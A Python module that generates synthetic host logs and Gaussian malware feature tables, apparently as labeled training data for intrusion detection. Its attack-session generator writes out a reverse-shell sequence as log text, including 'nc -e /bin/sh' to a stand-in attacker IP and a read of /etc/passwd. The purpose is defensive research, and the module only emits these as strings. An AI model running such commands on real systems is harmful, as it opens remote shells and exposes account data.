"""Synthetic host telemetry and malware static-feature generation.

The log generator emits benign traffic from a fixed grammar of templated
auth/process/system lines plus, per attack session, one correlated 8-step
reverse-shell sequence (inbound connection, interactive shell spawn, four
recon commands, an outbound beacon, and the beacon process itself), labeled
MALICIOUS. Attack sessions are placed in disjoint time slots with benign
heartbeat lines between them, so each session forms one contiguous malicious
run in the time-ordered output. Identical (scenario, seed) inputs reproduce
byte-identical record lists.
"""

from __future__ import annotations

import math
import random
from dataclasses import dataclass

import numpy as np

from ..errors import ConfigError
from .records import Channel, Label, LogRecord, MalwareSample, Origin

# Time base for generated telemetry: 2025-01-01T00:00:00Z in epoch ms.
EPOCH_MS = 1_735_689_600_000

# Minimum slot width (ms) needed to fit one attack session plus margins.
_MIN_SLOT_MS = 14_000
_SESSION_GAP_RANGE_MS = (300, 1200)
_SLOT_MARGIN_MS = 1_500
# Largest scenario either generator builds: log records (or benign hosts),
# and malware rows x features. Far above any test or benchmark corpus.
MAX_GENERATED_ITEMS = 1_000_000

_USERS = ["alice", "bob", "carol", "dave", "erin", "deploy", "backup", "www-data"]
_BAD_USERS = ["test", "oracle", "guest", "pi", "ubnt"]
_SERVICES = ["nginx", "postgresql", "redis-server", "cron", "docker", "sshd"]
_PACKAGES = ["libssl3", "tzdata", "ca-certificates", "vim-common", "curl-doc"]

# (channel, template) pairs; fields are filled per event from seeded pools.
_BENIGN_TEMPLATES: list[tuple[Channel, str]] = [
    (Channel.AUTH, "sshd[{pid}]: Accepted password for {user} from {lan_ip} port {port} ssh2"),
    (Channel.AUTH, "sshd[{pid}]: Accepted publickey for {user} from {lan_ip} port {port} ssh2"),
    (Channel.AUTH, "sshd[{pid}]: Failed password for invalid user {bad_user} from {wan_ip} port {port} ssh2"),
    (Channel.AUTH, "sshd[{pid}]: pam_unix(sshd:session): session opened for user {user} by (uid=0)"),
    (Channel.AUTH, "sshd[{pid}]: pam_unix(sshd:session): session closed for user {user}"),
    (Channel.AUTH, "sudo: {user} : TTY=pts/{tty} ; PWD=/home/{user} ; COMMAND=/usr/bin/systemctl status {service}"),
    (Channel.AUTH, "sudo: {user} : TTY=pts/{tty} ; PWD=/home/{user} ; COMMAND=/usr/bin/apt list --upgradable"),
    (Channel.AUTH, "systemd-logind[{pid}]: New session {sid} of user {user}."),
    (Channel.AUTH, "sshd[{pid}]: Received disconnect from {lan_ip} port {port}:11: disconnected by user"),
    (Channel.AUTH, "login[{pid}]: pam_unix(login:session): session opened for user {user} by LOGIN(uid=0)"),
    (Channel.PROCESS, "audit: execve /usr/sbin/cron -f pid={pid} ppid=1 uid=0"),
    (Channel.PROCESS, "audit: execve /usr/bin/python3 /opt/app/worker.py pid={pid} ppid={ppid} uid=1001"),
    (Channel.PROCESS, "audit: execve /usr/bin/rsync -a /srv/data /var/backups pid={pid} ppid={ppid} uid=0"),
    (Channel.PROCESS, "audit: execve /usr/sbin/logrotate /etc/logrotate.conf pid={pid} ppid=1 uid=0"),
    (Channel.PROCESS, "audit: execve /usr/sbin/sshd -D -R pid={pid} ppid=1 uid=0"),
    (Channel.PROCESS, "audit: execve /usr/bin/git pull origin main pid={pid} ppid={ppid} uid=1001"),
    (Channel.PROCESS, "audit: execve /usr/bin/docker ps --format table pid={pid} ppid={ppid} uid=0"),
    (Channel.PROCESS, "audit: execve /usr/lib/postfix/sbin/master -w pid={pid} ppid=1 uid=0"),
    (Channel.PROCESS, "audit: execve /usr/bin/node /opt/app/server.js pid={pid} ppid={ppid} uid=1001"),
    (Channel.PROCESS, "audit: execve /usr/bin/journalctl --vacuum-size=200M pid={pid} ppid={ppid} uid=0"),
    (Channel.SYSTEM, "systemd[1]: Started Daily apt download activities."),
    (Channel.SYSTEM, "systemd[1]: Starting Cleanup of Temporary Directories..."),
    (Channel.SYSTEM, "CRON[{pid}]: ({user}) CMD (command -v debian-sa1 > /dev/null)"),
    (Channel.SYSTEM, "kernel: EXT4-fs (sda1): mounted filesystem with ordered data mode"),
    (Channel.SYSTEM, "ntpd[{pid}]: adjusting local clock by {drift}s"),
    (Channel.SYSTEM, "dhclient[{pid}]: DHCPACK of {lan_ip} from {gw_ip}"),
    (Channel.SYSTEM, "systemd[1]: apt-daily.service: Succeeded."),
    (Channel.SYSTEM, "unattended-upgrades[{pid}]: Packages that will be upgraded: {package}"),
    (Channel.SYSTEM, "systemd-logind[{pid}]: Removed session {sid}."),
    (Channel.SYSTEM, "ntpd[{pid}]: synchronized to {ntp_ip}, stratum 3"),
]

# Benign heartbeat inserted between attack slots to keep sessions contiguous.
_HEARTBEAT = (Channel.SYSTEM, "CRON[{pid}]: (root) CMD (run-parts --report /etc/cron.hourly)")


@dataclass(frozen=True)
class ScenarioConfig:
    """Parameters of one synthetic log scenario."""

    benign_hosts: int
    attack_sessions: int
    duration_s: float
    seed: int
    benign_rate_per_host: float = 0.25  # events per second per host


@dataclass(frozen=True)
class MalwareScenario:
    """Parameters of one synthetic malware static-feature table.

    Benign and malicious samples are drawn from unit-variance Gaussian
    clusters separated by ``separation`` on the first half of the feature
    axes. ``hard_fraction`` of each class is drawn from the midpoint
    between the clusters, producing deliberately ambiguous rows.
    """

    benign_samples: int
    malicious_samples: int
    seed: int
    n_features: int = 8
    separation: float = 3.0
    hard_fraction: float = 0.0


# Template fields in draw order: each placeholder a template holds draws a value.
_FIELDS = {
    "pid": lambda rng, host_ip: rng.randint(10_000, 99_999),
    "ppid": lambda rng, host_ip: rng.randint(10_000, 99_999),
    "user": lambda rng, host_ip: rng.choice(_USERS),
    "bad_user": lambda rng, host_ip: rng.choice(_BAD_USERS),
    "service": lambda rng, host_ip: rng.choice(_SERVICES),
    "package": lambda rng, host_ip: rng.choice(_PACKAGES),
    "lan_ip": lambda rng, host_ip: (host_ip if rng.random() < 0.3
                                    else f"10.0.{rng.randint(1, 4)}.{rng.randint(2, 250)}"),
    "wan_ip": lambda rng, host_ip: f"203.0.113.{rng.randint(2, 250)}",
    "gw_ip": lambda rng, host_ip: "10.0.0.1",
    "ntp_ip": lambda rng, host_ip: f"192.0.2.{rng.randint(2, 250)}",
    "port": lambda rng, host_ip: rng.randint(20_000, 64_999),
    "tty": lambda rng, host_ip: rng.randint(0, 6),
    "sid": lambda rng, host_ip: rng.randint(100, 999),
    "drift": lambda rng, host_ip: f"{rng.uniform(-0.1, 0.1):.6f}",
}


def _fill(template: str, rng: random.Random, host_ip: str) -> str:
    return template.format(**{name: draw(rng, host_ip) for name, draw in _FIELDS.items()
                              if f"{{{name}}}" in template})


def _attack_session(rng: random.Random, host: str, host_ip: str, start_ms: int) -> list[LogRecord]:
    """Emit the fixed 8-step reverse-shell sequence for one session."""
    attacker_ip = f"198.51.100.{rng.randint(2, 250)}"
    shell_pid = rng.randint(10_000, 89_999)
    sshd_pid = rng.randint(10_000, 99_999)
    beacon_port = rng.choice([9001, 8443, 1337, 6667])
    steps: list[tuple[Channel, str]] = [
        (Channel.SYSTEM,
         f"kernel: netfilter: inbound connection src={attacker_ip} dst={host_ip} dport=4444 proto=tcp flags=SYN"),
        (Channel.PROCESS,
         f"audit: execve /bin/bash -i pid={shell_pid} ppid={sshd_pid} uid=33"),
        (Channel.PROCESS,
         f"audit: execve /usr/bin/whoami pid={shell_pid + 1} ppid={shell_pid} uid=33"),
        (Channel.PROCESS,
         f"audit: execve /usr/bin/id -u pid={shell_pid + 2} ppid={shell_pid} uid=33"),
        (Channel.PROCESS,
         f"audit: execve /bin/uname -a pid={shell_pid + 3} ppid={shell_pid} uid=33"),
        (Channel.PROCESS,
         f"audit: execve /bin/cat /etc/passwd pid={shell_pid + 4} ppid={shell_pid} uid=33"),
        (Channel.PROCESS,
         f"audit: execve /usr/bin/nc -e /bin/sh {attacker_ip} {beacon_port} pid={shell_pid + 5} ppid={shell_pid} uid=33"),
        (Channel.SYSTEM,
         f"kernel: netfilter: outbound connection src={host_ip} dst={attacker_ip} dport={beacon_port} proto=tcp beacon interval=30s"),
    ]
    records = []
    t = start_ms
    for channel, message in steps:
        records.append(LogRecord(timestamp=t, host=host, channel=channel,
                                 message=message, label=Label.MALICIOUS,
                                 origin=Origin.GENERATED))
        t += rng.randint(*_SESSION_GAP_RANGE_MS)
    return records


def generate_corpus(scenario: ScenarioConfig) -> list[LogRecord]:
    """Generate a labeled, time-ordered synthetic log corpus."""
    if scenario.benign_hosts < 1:
        raise ConfigError(f"benign_hosts must be >= 1, got {scenario.benign_hosts}")
    if scenario.attack_sessions < 0:
        raise ConfigError(f"attack_sessions must be >= 0, got {scenario.attack_sessions}")
    if not (math.isfinite(scenario.duration_s * 1000) and scenario.duration_s > 0):
        raise ConfigError("duration_s must be a number > 0 that is finite in milliseconds, "
                          f"got {scenario.duration_s}")
    if not (math.isfinite(scenario.benign_rate_per_host) and scenario.benign_rate_per_host > 0):
        raise ConfigError("benign_rate_per_host must be a finite number > 0, "
                          f"got {scenario.benign_rate_per_host}")
    k = scenario.attack_sessions
    expected_benign = scenario.benign_hosts * scenario.benign_rate_per_host * scenario.duration_s
    # Each attack session is 8 records plus at most one heartbeat.
    if max(scenario.benign_hosts, expected_benign + 9 * k) > MAX_GENERATED_ITEMS:
        raise ConfigError(f"scenario asks for ~{expected_benign + 9 * k:.3g} log records on "
                          f"{scenario.benign_hosts} hosts; the limit is {MAX_GENERATED_ITEMS}")

    duration_ms = int(scenario.duration_s * 1000)
    if k > 0 and duration_ms / k < _MIN_SLOT_MS:
        raise ConfigError(
            f"duration {scenario.duration_s}s is too short for {k} attack sessions "
            f"(need >= {_MIN_SLOT_MS * k / 1000:.0f}s)")

    rng = random.Random(scenario.seed)
    hosts = [f"host{i:02d}" for i in range(scenario.benign_hosts)]
    host_ips = {h: f"10.0.0.{10 + i}" for i, h in enumerate(hosts)}
    records: list[LogRecord] = []

    # Attack sessions first: each gets a disjoint slot, with margins so the
    # benign traffic (placed outside all session windows) never interleaves.
    windows: list[tuple[int, int]] = []
    slot = duration_ms / k if k else 0.0
    for i in range(k):
        host = rng.choice(hosts)
        max_len = 7 * _SESSION_GAP_RANGE_MS[1]
        lo = int(i * slot) + _SLOT_MARGIN_MS
        hi = int((i + 1) * slot) - _SLOT_MARGIN_MS - max_len
        start = rng.randint(lo, max(lo, hi))
        session = _attack_session(rng, host, host_ips[host], EPOCH_MS + start)
        records.extend(session)
        windows.append((session[0].timestamp, session[-1].timestamp))

    # Heartbeats at slot boundaries keep consecutive sessions separated.
    for i in range(1, k):
        t = EPOCH_MS + int(i * slot)
        host = hosts[i % len(hosts)]
        records.append(LogRecord(timestamp=t, host=host, channel=_HEARTBEAT[0],
                                 message=_fill(_HEARTBEAT[1], rng, host_ips[host]),
                                 label=Label.BENIGN, origin=Origin.GENERATED))

    # Benign traffic on the timeline outside the attack windows (2 ms pad).
    segments: list[tuple[int, int]] = []
    cursor = EPOCH_MS
    for (w_start, w_end) in windows:
        if w_start - 2 > cursor:
            segments.append((cursor, w_start - 2))
        cursor = w_end + 2
    if cursor < EPOCH_MS + duration_ms:
        segments.append((cursor, EPOCH_MS + duration_ms))
    total_free = sum(end - start for start, end in segments)

    n_benign = round(expected_benign)
    for _ in range(n_benign):
        offset = rng.uniform(0, total_free)
        for start, end in segments:
            width = end - start
            if offset <= width:
                t = start + int(offset)
                break
            offset -= width
        else:  # pragma: no cover - float slack
            t = segments[-1][1]
        host = rng.choice(hosts)
        channel, template = rng.choice(_BENIGN_TEMPLATES)
        records.append(LogRecord(timestamp=t, host=host, channel=channel,
                                 message=_fill(template, rng, host_ips[host]),
                                 label=Label.BENIGN, origin=Origin.GENERATED))

    records.sort(key=lambda r: (r.timestamp, r.host, r.channel.value, r.message))
    return records


def generate_malware(scenario: MalwareScenario) -> list[MalwareSample]:
    """Generate a labeled synthetic static-feature table."""
    if scenario.benign_samples < 1 or scenario.malicious_samples < 1:
        raise ConfigError("benign_samples and malicious_samples must be >= 1")
    if scenario.n_features < 1:
        raise ConfigError(f"n_features must be >= 1, got {scenario.n_features}")
    if not 0.0 <= scenario.hard_fraction <= 1.0:
        raise ConfigError(f"hard_fraction must be in [0, 1], got {scenario.hard_fraction}")
    if not math.isfinite(scenario.separation):
        raise ConfigError(f"separation must be a finite number, got {scenario.separation}")
    n_values = (scenario.benign_samples + scenario.malicious_samples) * scenario.n_features
    if n_values > MAX_GENERATED_ITEMS:
        raise ConfigError(f"malware table of {n_values} values (rows x features) is over "
                          f"the limit of {MAX_GENERATED_ITEMS}")

    rng = np.random.default_rng(scenario.seed)
    d = scenario.n_features
    informative = max(1, d // 2)

    def _draw(n: int, mean: float, n_hard: int) -> np.ndarray:
        X = rng.standard_normal((n, d))
        X[:n_hard, :informative] += scenario.separation / 2.0
        X[n_hard:, :informative] += mean
        return X

    n_hard_b = int(round(scenario.benign_samples * scenario.hard_fraction))
    n_hard_m = int(round(scenario.malicious_samples * scenario.hard_fraction))
    benign = _draw(scenario.benign_samples, 0.0, n_hard_b)
    malicious = _draw(scenario.malicious_samples, scenario.separation, n_hard_m)

    rows = np.vstack((benign, malicious)).tolist()
    labels = [Label.BENIGN] * len(benign) + [Label.MALICIOUS] * len(malicious)
    samples = [MalwareSample(sample_id=f"mw-{i:05d}", features=tuple(row), label=label)
               for i, (row, label) in enumerate(zip(rows, labels))]
    order = rng.permutation(len(samples))
    return [samples[int(i)] for i in order]
